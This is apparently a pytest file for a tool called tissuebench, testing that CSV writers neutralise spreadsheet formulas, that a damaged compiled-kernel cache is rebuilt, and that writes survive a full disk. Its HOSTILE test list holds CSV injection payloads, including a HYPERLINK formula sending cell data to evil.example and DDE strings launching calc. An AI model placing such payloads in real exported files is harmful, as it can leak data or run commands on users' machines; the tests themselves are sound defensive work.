"""Issue 45: what a careless or hostile user leaves in the files tissuebench reads and writes.

- CSV cells that a spreadsheet would evaluate (= + - @, a tab or a carriage return first) are
  written with a leading apostrophe, numbers as they are, and read back as they were given.
- The compiled-kernels cache: a cached library that is empty, cut short, garbage or of another
  architecture is said in one line and compiled again (one cut short used to end the process
  with SIGBUS); a full cache disk says "no space left on the device", naming the cache.
- Writes that are whole: a full disk while a file is written, or while its folder's manifest
  is, leaves the old file and its manifest, and the rerun goes on; a CSV cut mid-row (a kill
  during an in-place rewrite) is read as the rows that are whole.
"""

import csv
import errno
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from helpers import job

from tissuebench.workflows.io import tables

pytestmark = pytest.mark.serial  # files and subprocesses of one process

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # an apostrophe of the user's own, before a formula
    "'quoted",
    "my-solver",
]


def test_csv_cells_that_a_spreadsheet_evaluates_are_written_as_text(tmp_path):
    """Every writer of io/tables.py: a label that starts a formula gets an apostrophe; numbers,
    negative ones included (as numbers or as the text of one), are as they are; read_rows gives
    back the labels as they were."""
    path = tmp_path / "table.csv"
    tables.write_table(path, ["label", "E_i"], [[label, -1.5] for label in HOSTILE] + [["-2", -3]])
    with open(path, newline="") as f:
        cells = list(csv.reader(f))[1:]
    for (written, number), label in zip(cells, HOSTILE + ["-2"], strict=True):
        starts_a_formula = label.lstrip("'")[:1] in "=+-@\t\r" and label != "-2"
        assert written == ("'" + label if starts_a_formula else label), (label, written)
        assert number in ("-1.5", "-3")
        assert written[:1] not in "=+-@\t\r" or written == "-2"
    assert [r["label"] for r in tables.read_rows(path)] == HOSTILE + ["-2"]
    # metrics.csv (compare's), write_rows and append_row (the studies' tables) alike
    times = np.array([0.0, 0.5])
    curves = {label: {m: np.array([-0.0, -2.5]) for m in tables.METRICS} for label in HOSTILE}
    status = {label: ["ok", "ok"] for label in HOSTILE}
    tables.write_metrics_csv(tmp_path / "metrics.csv", times, curves, status)
    with open(tmp_path / "metrics.csv", newline="") as f:
        written = list(csv.reader(f))[1:]
    assert {row[0] for row in written} == {"'" + label for label in HOSTILE[:7]} | {
        "'quoted",
        "my-solver",
    }
    assert all(row[3] == "-2.5" for row in written[1::2])  # E_n: numbers as they are
    times_back, back = tables.read_curves(tmp_path / "metrics.csv")
    assert list(back) == HOSTILE and back[HOSTILE[0]][next(iter(tables.METRICS))][1] == -2.5
    rows = [{"label": label, "x": -1.0} for label in HOSTILE]
    tables.write_rows(tmp_path / "rows.csv", rows)
    for row in rows:
        tables.append_row(tmp_path / "appended.csv", row, ("label", "x"))
    for name in ("rows.csv", "appended.csv"):
        back_rows = tables.read_rows(tmp_path / name)
        assert [(r["label"], r["x"]) for r in back_rows] == [(label, "-1.0") for label in HOSTILE]
        with open(tmp_path / name, newline="") as f:
            assert [row[0] for row in list(csv.reader(f))[1:]] == [
                "'" + label if k < 7 else label for k, label in enumerate(HOSTILE)
            ]


def test_committed_csv_files_come_out_byte_identical(tmp_path):
    """results/ is written by these writers: each CSV there, read back and written again,
    has the same bytes (no cell of it starts a formula), and none starts a formula."""
    results = Path(__file__).parents[1] / "results"
    files = sorted(results.rglob("*.csv"))
    assert files
    for path in files:
        with open(path, newline="") as f:
            header = next(csv.reader(f))
        rows = tables.read_rows(path)
        tables.write_table(tmp_path / "again.csv", header, [list(r.values()) for r in rows])
        assert (tmp_path / "again.csv").read_bytes() == path.read_bytes(), path
        with open(path, newline="") as f:
            firsts = {cell[:1] for row in csv.reader(f) for cell in row if not is_number(cell)}
        assert not firsts & set("=+-@\t\r"), path


def is_number(cell: str) -> bool:
    return tables.NUMBER.fullmatch(cell) is not None


# --- the compiled-kernels cache -----------------------------------------------------------------

LOAD = (
    "from tissuebench.metrics import kernels; import numpy as np; "
    "print(kernels.interior_norms(np.zeros((1, 1), int), np.ones((1, 1)), "
    "np.ones((1, 1, 3)), np.zeros((1, 1, 3)), np.ones(1))[0])"
)


def load_in_a_process(cache: Path) -> subprocess.CompletedProcess:
    """Load (compiling if need be) metrics/kernels' module with this cache, in a process of its
    own (a SIGBUS would end it), and use it once: sqrt(3)."""
    cmd, env = job(["-c", LOAD])
    env["TISSUEBENCH_CACHE"] = str(cache)
    return subprocess.run(cmd, capture_output=True, text=True, timeout=300, env=env)


def wrong_architecture(good: bytes) -> bytes:
    """The library with another machine in its ELF header (AArch64 for x86-64, and back)."""
    machine = b"\xb7\x00" if good[18:20] != b"\xb7\x00" else b"\x3e\x00"
    return good[:18] + machine + good[20:]


@pytest.mark.parametrize(
    "damage, said",
    [
        (lambda good: b"", "empty"),
        (lambda good: good[: len(good) // 3], "cut short"),
        (lambda good: bytes(range(256)) * 64, "no ELF header"),
        (wrong_architecture, "another architecture"),
        (lambda good: good[:-1] + bytes([good[-1] ^ 1]), "SHA-256"),
    ],
    ids=["empty", "truncated", "garbage", "architecture", "changed"],
)
def test_a_damaged_compiled_kernel_is_said_and_compiled_again(tmp_path, damage, said):
    first = load_in_a_process(tmp_path)
    assert first.returncode == 0 and float(first.stdout) == pytest.approx(3**0.5), first.stderr
    (library,) = tmp_path.glob("*.so")
    library.write_bytes(damage(library.read_bytes()))
    again = load_in_a_process(tmp_path)
    assert again.returncode == 0, (again.returncode, again.stderr[-2000:])
    assert float(again.stdout) == pytest.approx(3**0.5)
    lines = again.stderr.strip().splitlines()
    assert len(lines) == 1 and str(library) in lines[0] and said in lines[0], again.stderr
    assert lines[0].endswith("compiling it again")
    (rebuilt,) = tmp_path.glob("*.so")  # the damaged one is gone, the new one is fit
    third = load_in_a_process(tmp_path)
    assert third.returncode == 0 and third.stderr == "" and list(tmp_path.glob("*.so")) == [rebuilt]


def test_a_full_cache_disk_says_no_space_naming_the_cache(tmp_path, monkeypatch):
    """The C file cannot be written (cffi: ENOSPC while it handles the file not being there
    yet), or the compiler cannot write its output (little space left): one OSError ENOSPC
    naming the cache, with no other error as its context, which the command line says in one
    line ("...c: No such file or directory" before)."""
    import builtins

    import cffi.recompiler

    from tissuebench.solvers import blockcsr
    from tissuebench.workflows.cli import fault

    cache = tmp_path / "cache"
    monkeypatch.setenv("TISSUEBENCH_CACHE", str(cache))

    def full_open(file, mode="r", *args, **kwargs):
        if "w" in mode:
            raise OSError(errno.ENOSPC, "No space left on device")
        return builtins.open(file, mode, *args, **kwargs)

    monkeypatch.setattr(cffi.recompiler, "open", full_open, raising=False)
    source = "int one(void) { return 1; }"
    with pytest.raises(OSError) as caught:
        blockcsr.compile_module("_tissuebench_test_full", source, "int one(void);")
    assert caught.value.errno == errno.ENOSPC and caught.value.__context__ is None
    assert fault(caught.value) == f"{cache}: no space left on the device"
    monkeypatch.undo()
    monkeypatch.setenv("TISSUEBENCH_CACHE", str(cache))

    def compiler_fails(self, *args, **kwargs):
        raise cffi.VerificationError("CompileError: command 'gcc' failed with exit code 1")

    monkeypatch.setattr(cffi.FFI, "compile", compiler_fails)
    monkeypatch.setattr(blockcsr, "_free_bytes", lambda folder: 4096)
    with pytest.raises(OSError) as caught:
        blockcsr.compile_module("_tissuebench_test_full", source, "int one(void);")
    assert fault(caught.value) == f"{cache}: no space left on the device"
    assert not list(cache.glob("*.so"))
    monkeypatch.setattr(blockcsr, "_free_bytes", lambda folder: 1e12)  # space: the real error
    with pytest.raises(cffi.VerificationError):
        blockcsr.compile_module("_tissuebench_test_full", source, "int one(void);")
    assert sys.modules.get("_tissuebench_test_full") is None


# --- writes that are whole ----------------------------------------------------------------------


class FullAfter:
    """A text file whose writes fail with ENOSPC once `room` characters are written (the
    disk fills mid-write): what fits is written, then OSError."""

    def __init__(self, f, room: int):
        self.f, self.room = f, room

    def write(self, text: str) -> int:
        if len(text) > self.room:
            self.f.write(text[: self.room])
            self.f.flush()
            raise OSError(errno.ENOSPC, "No space left on device")
        self.room -= len(text)
        return self.f.write(text)

    def __getattr__(self, name):
        return getattr(self.f, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.f.close()


def test_a_csv_rewritten_or_appended_on_a_full_disk_is_left_whole(tmp_path, monkeypatch):
    """append_row and write_rows (frontier.csv, as each run ends and when it is timed again):
    the disk filling mid-row leaves the old file as it was, not half a row."""
    import builtins

    path = tmp_path / "frontier.csv"
    tables.write_rows(path, [{"case": "rod", "cost": 0.25}], ("case", "cost"))
    before = path.read_bytes()

    def filling(file, mode="r", *args, **kwargs):
        f = builtins.open(file, mode, *args, **kwargs)
        if "a" in mode:  # the row appended in place: the disk fills 8 characters into it
            return FullAfter(f, 8)
        return FullAfter(f, len(before) + 8) if "w" in mode else f

    monkeypatch.setattr(tables, "open", filling, raising=False)
    for write in (
        lambda: tables.append_row(path, {"case": "block-MP2-w0.2", "cost": 0.5}, ("case", "cost")),
        lambda: tables.write_rows(path, [{"case": "block-MP2-w0.2", "cost": 0.5}] * 3),
    ):
        with pytest.raises(OSError, match="No space"):
            write()
        assert path.read_bytes() == before
    monkeypatch.undo()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["frontier.csv"]  # nothing staged left
    tables.append_row(path, {"case": "block-MP2-w0.2", "cost": 0.5}, ("case", "cost"))
    assert [r["case"] for r in tables.read_rows(path)] == ["rod", "block-MP2-w0.2"]


@pytest.mark.parametrize("cut", [40, 200, 2])
def test_a_frontier_csv_cut_mid_row_is_read_as_its_whole_rows(tmp_path, capsys, cut):
    """A frontier.csv that a kill or a full disk cut mid-row (an older tissuebench rewrote it
    in place): its whole rows are read, the cut one is left out in one line (the study runs it
    again); a TypeError traceback before."""
    from tissuebench.workflows.frontier import runs as frontier

    committed = Path(__file__).parents[1] / "results" / "frontier" / "frontier.csv"
    rows = frontier.read_rows(committed)[:3]
    path = tmp_path / "frontier.csv"
    tables.write_rows(path, rows, frontier.COLUMNS)
    data = path.read_bytes()
    path.write_bytes(data[:-cut])  # 2: the line's end only; the row's cells all there
    kept = frontier.read_rows(path)
    assert [frontier.row_key(r) for r in kept] == [frontier.row_key(r) for r in rows[:2]]
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 1 and "1 row cut short" in said[0] and str(path) in said[0]
    path.write_bytes(data)
    assert len(frontier.read_rows(path)) == 3 and capsys.readouterr().err == ""


@pytest.mark.parametrize("writer", ["write_owned", "write_set"])
def test_a_full_disk_while_the_manifest_is_written_leaves_the_old_files_ours(
    tmp_path, monkeypatch, writer
):
    """truth --out writes truth.csv and truth.md and lists them in the folder's manifest: a
    full disk while the manifest is written left truth.csv in place and outside the manifest,
    and the rerun refused the folder as not ours. Now the manifest is staged before anything
    moves: the old files stay, listed, and the rerun writes."""
    from tissuebench.workflows.io import output

    out = tmp_path / "out"
    names = ("truth.csv", "truth.md")

    def write(text: str) -> None:
        files = {
            out / name: (lambda tmp, name=name: tmp.write_text(f"{name} {text}\n"))
            for name in names
        }
        if writer == "write_set":
            output.write_set(files)
        else:
            for path, one in files.items():
                output.write_owned(path, one)

    write("old")
    before = {name: (out / name).read_bytes() for name in names}
    real = Path.write_text

    def full(self, *args, **kwargs):
        if self.name.startswith(output.MANIFEST):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", full)
    with pytest.raises(OSError, match="No space"):
        write("new")
    monkeypatch.undo()
    assert {name: (out / name).read_bytes() for name in names} == before
    output.check_writable(out, owned=names)  # the rerun's check: ours, unchanged
    assert sorted(p.name for p in out.iterdir()) == sorted([*names, output.MANIFEST])
    write("new")
    assert (out / "truth.csv").read_text() == "truth.csv new\n"
    output.check_writable(out, owned=names)
